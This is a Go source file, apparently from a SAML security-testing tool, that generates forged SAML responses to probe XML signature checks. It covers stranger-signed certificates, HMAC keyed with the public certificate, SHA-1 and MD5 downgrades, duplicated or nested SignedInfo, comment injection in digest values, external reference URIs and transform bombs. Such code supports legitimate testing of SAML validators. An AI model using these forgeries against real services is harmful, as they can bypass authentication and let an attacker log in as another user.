package samlattack

import (
	"crypto"
	"crypto/ecdsa"
	"crypto/hmac"
	_ "crypto/md5"
	_ "crypto/sha1"
	"crypto/sha256"
	"encoding/pem"
	"regexp"
	"strings"

	"github.com/poolhouse/poolhouse/internal/samlxml"
)

// Keys are attacks on whose key counts.
func (m *Message) Keys() []Attack {
	evil := m.replaced(m.whole, m.Genuine, m.Evil)
	s := Stranger()
	return []Attack{
		{"key-info", "signed by a stranger, her certificate enclosed", m.sign(Seal{Key: s.Key, Certificate: s.Certificate}, evil)},
		{"key-info", "signed by a stranger, the trusted certificate enclosed", m.sign(Seal{Key: s.Key}, evil)},
		{"key-info", "signed by a stranger, no certificate enclosed", m.sign(Seal{Key: s.Key, NoKeyInfo: true}, evil)},
		{"key-info", "signed by a stranger, both certificates enclosed", strings.Replace(m.sign(Seal{Key: s.Key}, evil), "</ds:X509Data>",
			"</ds:X509Data>"+strings.TrimSuffix(strings.TrimPrefix(m.keyInfo(Seal{Certificate: s.Certificate}), "<ds:KeyInfo>"), "</ds:KeyInfo>"), 1)},
	}
}

// Algorithms are attacks on how it is signed.
func (m *Message) Algorithms() []Attack {
	const more = "http://www.w3.org/2001/04/xmldsig-more#"
	foreign := samlxml.ECDSASHA256
	if m.byECDSA() {
		foreign = samlxml.RSASHA256
	}
	seals := map[string]Seal{
		"signature with SHA-1":                  {Method: dsNS + "rsa-sha1", Hash: crypto.SHA1},
		"signature with MD5":                    {Method: more + "rsa-md5", Hash: crypto.MD5},
		"digest with SHA-1":                     {Digest: dsNS + "sha1", DigestHash: crypto.SHA1},
		"digest with MD5":                       {Digest: more + "md5", DigestHash: crypto.MD5},
		"digest of another length":              {Digest: "http://www.w3.org/2001/04/xmlenc#sha512"},
		"another hash than the method says":     {Hash: crypto.SHA512},
		"unknown method":                        {Method: "urn:x"},
		"method of another kind of key":         {Method: foreign},
		"unknown canonicalisation":              {Canonical: "urn:x"},
		"inclusive canonicalisation":            {Canonical: "http://www.w3.org/TR/2001/REC-xml-c14n-20010315"},
		"exclusive canonicalisation + comments": {Canonical: exclusive + "WithComments"},
	}
	attacks := []Attack{{"algorithms", "HMAC with the public key as the secret", m.hmac()}}
	for name, seal := range seals {
		attacks = append(attacks, Attack{"algorithms", name, m.sign(seal, m.whole)})
	}
	return attacks
}

// hmac signs with HMAC-SHA256, its secret the certificate that everybody knows.
func (m *Message) hmac() string {
	kind := "#rsa-sha256"
	if m.byECDSA() {
		kind = "#ecdsa-sha256"
	}
	doc := strings.Replace(m.sign(Seal{}, m.replaced(m.whole, m.Genuine, m.Evil)), "xmldsig-more"+kind, "xmldsig-more#hmac-sha256", 1)
	old := signaturePart.FindString(doc)
	info := regexp.MustCompile(`(?s)<ds:SignedInfo>(.*</ds:SignedInfo>)`).FindStringSubmatch(old)[1]
	mac := hmac.New(sha256.New, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: m.Trusted.Certificate.Raw}))
	mac.Write([]byte(`<ds:SignedInfo xmlns:ds="` + dsNS + `">` + info))
	return m.once(doc, old, wrap(info, mac.Sum(nil), m.keyInfo(Seal{})))
}

// byECDSA reports whether the trusted key is one of ECDSA.
func (m *Message) byECDSA() bool {
	_, ok := m.Trusted.Key.Public().(*ecdsa.PublicKey)
	return ok
}

// SignedInfo are attacks on what exactly is signed.
func (m *Message) SignedInfo() []Attack {
	doc := m.Good()
	info := regexp.MustCompile(`(?s)<ds:SignedInfo>.*?</ds:SignedInfo>`).FindString(doc)
	ref := regexp.MustCompile(`(?s)<ds:Reference .*?</ds:Reference>`).FindString(doc)
	value := regexp.MustCompile(`<ds:DigestValue>.*?</ds:DigestValue>`).FindString(doc)
	evil := m.replaced(doc, m.Genuine, m.Evil)
	evilInfo := regexp.MustCompile(`(?s)<ds:SignedInfo>.*?</ds:SignedInfo>`).FindString(m.sign(Seal{}, m.replaced(m.whole, m.Genuine, m.Evil)))
	evilValue := regexp.MustCompile(`<ds:DigestValue>.*?</ds:DigestValue>`).FindString(evilInfo)
	bare := regexp.MustCompile(`>(.*)<`).FindStringSubmatch(evilValue)[1]
	swap := func(old, new string) string { return m.once(evil, old, new) }
	all := map[string]string{
		"content changed":                       evil,
		"two SignedInfo, the evil one first":    swap(info, evilInfo+info),
		"two SignedInfo, the evil one last":     swap(info, info+evilInfo),
		"evil SignedInfo nested":                swap("<ds:SignedInfo>", "<ds:SignedInfo>"+evilInfo),
		"evil SignedInfo in a foreign element":  swap(info, `<x xmlns="urn:x">`+evilInfo+`</x>`+info),
		"two references, the evil one last":     swap(ref, ref+strings.Replace(ref, value, evilValue, 1)),
		"two references, the evil one first":    swap(ref, strings.Replace(ref, value, evilValue, 1)+ref),
		"two digest values":                     swap(value, evilValue+value),
		"digest value split by a comment":       swap(value, "<ds:DigestValue>"+bare+"<!--"+value[16:]+"--></ds:DigestValue>"),
		"comment in the digest value":           swap(value, strings.Replace(value, "<ds:DigestValue>", "<ds:DigestValue><!-- x -->"+bare, 1)),
		"element in the digest value":           swap(value, strings.Replace(value, "<ds:DigestValue>", "<ds:DigestValue><x>"+bare+"</x>", 1)),
		"object in the signature":               m.once(doc, "</ds:Signature>", "<ds:Object></ds:Object></ds:Signature>"),
		"two signatures, the evil one first":    strings.Replace(evil, signaturePart.FindString(evil), signaturePart.FindString(m.sign(Seal{Key: Stranger().Key}, evil))+signaturePart.FindString(evil), 1),
		"reference to nothing":                  m.sign(Seal{URI: "#_none"}, m.whole),
		"reference to an outside document":      m.sign(Seal{URI: "http://127.0.0.1:9/x"}, m.whole),
		"reference by XPointer":                 m.sign(Seal{URI: "#xpointer(id('" + m.id + "'))"}, m.whole),
		"two references, both signed":           m.sign(Seal{InsideSigInfo: ref}, m.whole),
		"parameter in the reference":            m.sign(Seal{AfterDigest: "<x></x>"}, m.whole),
		"digest of nothing":                     m.sign(Seal{DigestOver: new(string)}, m.whole),
		"signature value of another's":          regexp.MustCompile(`<ds:SignatureValue>[^<]*`).ReplaceAllString(doc, "<ds:SignatureValue>AAAA"),
		"signed element without an ID":          strings.Replace(m.sign(Seal{}, m.whole), ` ID="`+m.id+`"`, "", 1),
		"reference to the whole document empty": strings.Replace(doc, `URI="#`+m.id+`"`, `URI=""`, 1),
	}
	return list("signed-info", all)
}

// Canonicalisation are attacks that have the reader digest something else, or
// nothing, and bombs in the transforms.
func (m *Message) Canonicalisation() []Attack {
	transform := func(algorithm, content string) string {
		return `<ds:Transform Algorithm="` + algorithm + `">` + content + `</ds:Transform>`
	}
	strip, exc := transform(enveloped, ""), transform(exclusive, "")
	const xpath = "http://www.w3.org/TR/1999/REC-xpath-19991116"
	const xslt = "http://www.w3.org/TR/1999/REC-xslt-19991116"
	seal := func(transforms string, over *string) string {
		return m.sign(Seal{Transforms: transforms, DigestOver: over}, m.whole)
	}
	empty := new(string)
	return list("canonicalisation", map[string]string{
		"XSLT":                              seal(strip+exc+transform(xslt, `<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform"></xsl:stylesheet>`), nil),
		"XPath that selects nothing":        seal(strip+transform(xpath, `<ds:XPath>false()</ds:XPath>`)+exc, empty),
		"base64 transform":                  seal(strip+transform(dsNS+"base64", ""), empty),
		"unknown transform":                 seal(strip+transform("urn:x", ""), empty),
		"no transforms":                     seal(" ", empty),
		"enveloped alone":                   seal(strip, nil),
		"exclusive alone":                   seal(exc, nil),
		"wrong order":                       seal(exc+strip, nil),
		"a thousand transforms":             seal(strip+strings.Repeat(exc, 1000), nil),
		"parameter of the enveloped one":    seal(transform(enveloped, "<x></x>")+exc, nil),
		"foreign parameter":                 seal(strip+transform(exclusive, `<x:InclusiveNamespaces xmlns:x="urn:x" PrefixList="saml"></x:InclusiveNamespaces>`), nil),
		"digest of an empty canonical form": m.sign(Seal{DigestOver: empty}, m.replaced(m.whole, m.Genuine, m.Evil)),
	})
}

func list(class string, docs map[string]string) []Attack {
	attacks := make([]Attack, 0, len(docs))
	for name, doc := range docs {
		attacks = append(attacks, Attack{class, name, doc})
	}
	return attacks
}
